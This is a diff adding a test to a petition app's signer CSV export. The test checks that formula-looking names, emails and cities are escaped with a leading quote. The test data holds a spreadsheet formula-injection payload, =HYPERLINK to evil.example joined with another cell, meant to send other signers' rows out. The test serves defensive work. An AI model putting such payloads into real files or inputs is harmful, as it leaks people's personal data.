@@ -207,3 +207,23 @@ def test_an_interrupted_command_export_is_logged_as_failed(petition):
     export = SignerExport.objects.get()
     assert (export.status, export.row_count) == ("failed", None)
     assert "No space left" in export.error
+
+
+def test_a_signers_text_is_never_taken_for_a_spreadsheet_formula(petition):
+    # Opened in a spreadsheet, a formula in a name could send the other rows to its author.
+    verified_signature(
+        petition=petition,
+        name='=HYPERLINK("https://evil.example/?"&B3,"Zoë")',
+        email="=1+1@example.org",
+        country="FR",
+        city="@SUM(1)",
+        consent_to_updates=True,
+    )
+    stream = io.StringIO()
+    signer_export_write(petition=petition, stream=stream)
+    row = read_csv(stream.getvalue())[-1]
+    assert (row["Name"], row["Email"], row["City"]) == (
+        '\'=HYPERLINK("https://evil.example/?"&B3,"Zoë")',
+        "'=1+1@example.org",
+        "'@SUM(1)",
+    )
